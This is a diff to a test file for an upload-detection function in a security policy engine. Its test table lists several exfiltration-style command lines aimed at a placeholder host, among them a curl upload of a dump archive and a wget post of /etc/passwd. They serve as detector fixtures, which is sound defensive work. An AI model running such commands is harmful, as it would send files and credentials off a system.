@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { evaluateConnect } from '../../../policy/detectors/connect.ts';
+import { hasUploadFlags } from '../../../policy/detectors/process-signals.ts';
 import { WED_02, WED_10, facts, learnedState, proc, snap } from './fixtures.ts';
 
 type Row = {
@@ -120,5 +121,18 @@ describe('evaluateConnect', () => {
     expect(f?.detector).toBe('an0080.lineage');
     expect(f?.severity).toBe('low'); // medium base, -1 long-known, no context step
     expect(f?.action).toBe('flag');
+  });
+});
+
+describe('upload command lines', () => {
+  it.each([
+    ['curl', 'curl -T dump.7z https://x/up', true],
+    ['curl', 'curl -s --data-binary @/tmp/a https://x/', true],
+    ['curl', 'curl -fsS https://x/health', false],
+    ['wget', 'wget -T 30 https://x/file.iso', false], // -T is wget's timeout
+    ['wget', 'wget --post-file=/etc/passwd https://x/', true],
+    ['powershell.exe', 'powershell Invoke-RestMethod -Uri https://x -Method Put -InFile c:\\a.zip', true],
+  ])('%s: %s -> %s', (tool, cmd, want) => {
+    expect(hasUploadFlags(cmd, tool)).toBe(want);
   });
 });
